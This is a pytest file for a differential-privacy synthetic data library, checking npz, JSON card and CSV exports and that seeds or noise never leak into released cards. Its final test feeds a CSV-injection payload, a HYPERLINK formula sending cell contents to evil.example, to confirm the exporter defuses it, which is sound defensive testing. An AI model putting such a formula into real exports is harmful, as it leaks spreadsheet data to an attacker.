"""Release container and exports: npz + json card, CSV, and what must never be in them."""

from __future__ import annotations

import io
import json
import re

import numpy as np
import pytest

from dpcda.mechanisms import Release, generate_dpcda, generate_random_projection, load_npz, \
    save_npz, to_csv_bytes
from mech_data import make_blocks


@pytest.fixture
def release():
    X, y = make_blocks()
    return generate_dpcda(X, y, l=2, T=40, sigma_x=0.5, seed=123456789, dataset="blocks")


def test_save_npz_writes_arrays_and_card(tmp_path, release):
    npz, card = save_npz(release, tmp_path / "synth.npz")
    assert npz == tmp_path / "synth.npz" and card == tmp_path / "synth.json"
    with np.load(npz) as z:
        assert sorted(z.files) == ["X", "y", "y_soft"]
        assert np.array_equal(z["X"], release.X) and z["X"].dtype == np.float32
        assert z["y"].dtype == np.int64 and np.array_equal(z["y_soft"], release.y_soft)
    text = card.read_text()
    assert json.loads(text) == release.card
    assert "123456789" not in text and not re.search(r"\bseed\b", text.lower())
    back = load_npz(npz)
    assert np.array_equal(back.X, release.X) and back.card == release.card


def test_projection_matrix_is_exported_with_the_release(tmp_path):
    X, y = make_blocks()
    rel = generate_random_projection(X / 2, y, epsilon=1.0, p=4, normalize="none")
    npz, _ = save_npz(rel, tmp_path / "rp.npz")
    with np.load(npz) as z:
        assert sorted(z.files) == ["X", "projection", "y", "y_soft"]
        assert z["projection"].shape == (4, 20)
    assert load_npz(npz).extras["projection"].shape == (4, 20)


def test_csv_has_label_first_then_features(release):
    data = to_csv_bytes(release)
    lines = data.decode().splitlines()
    assert lines[0].split(",")[:3] == ["label", "x0", "x1"]
    assert len(lines[0].split(",")) == 1 + release.X.shape[1]
    table = np.loadtxt(io.StringIO(data.decode()), delimiter=",", skiprows=1)
    assert table.shape == (release.n, 1 + release.X.shape[1])
    assert np.array_equal(table[:, 0].astype(int), release.y)
    np.testing.assert_allclose(table[:, 1:], release.X, rtol=1e-5, atol=1e-6)
    two = to_csv_bytes(release, max_rows=2, soft_labels=True).decode().splitlines()
    assert len(two) == 3 and two[0].endswith(",p3")


def test_release_rejects_seed_or_noise_in_card_and_bad_shapes(release):
    for key in ("seed", "noise", "rng_state"):
        with pytest.raises(ValueError, match="must not contain"):
            Release(X=release.X, y=release.y, y_soft=release.y_soft,
                    card={"privacy": {"x": [{key: 1}]}})
    with pytest.raises(ValueError, match="one length"):
        Release(X=release.X, y=release.y[:-1], y_soft=release.y_soft, card={})
    with pytest.raises(ValueError):
        Release(X=release.X, y=release.y, y_soft=release.y_soft, card={"eps": float("inf")})


def test_bad_paths(tmp_path, release):
    with pytest.raises(ValueError, match="does not exist"):
        save_npz(release, tmp_path / "missing" / "s.npz")
    with pytest.raises(ValueError, match="no release file"):
        load_npz(tmp_path / "none.npz")


def test_csv_header_from_an_upload_is_never_a_spreadsheet_formula(release):
    """Feature names come from an uploaded CSV's header: one starting with =, +, -, @ would run as a
    formula when the exported release is opened in a spreadsheet (OWASP CSV injection)."""
    d = release.X.shape[1]
    names = ['=HYPERLINK("http://evil.example/?"&A2,"x")', "@SUM(A1)", "+cmd", "-1", "age"]
    names += [f"f{j}" for j in range(d - len(names))]
    data = to_csv_bytes(release, feature_names=names).decode()
    import pandas as pd
    back = pd.read_csv(io.StringIO(data))
    assert list(back.columns[1:6]) == ["'=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")", "'@SUM(A1)",
                                       "'+cmd", "-1", "age"]
    assert all(not str(c).startswith(("=", "+", "@")) for c in back.columns)
    np.testing.assert_allclose(back.iloc[:, 1:].to_numpy(), release.X, rtol=1e-5, atol=1e-6)
    assert (release.X < 0).any() and (back.iloc[:, 1:].to_numpy() < 0).any()  # negatives stay numbers
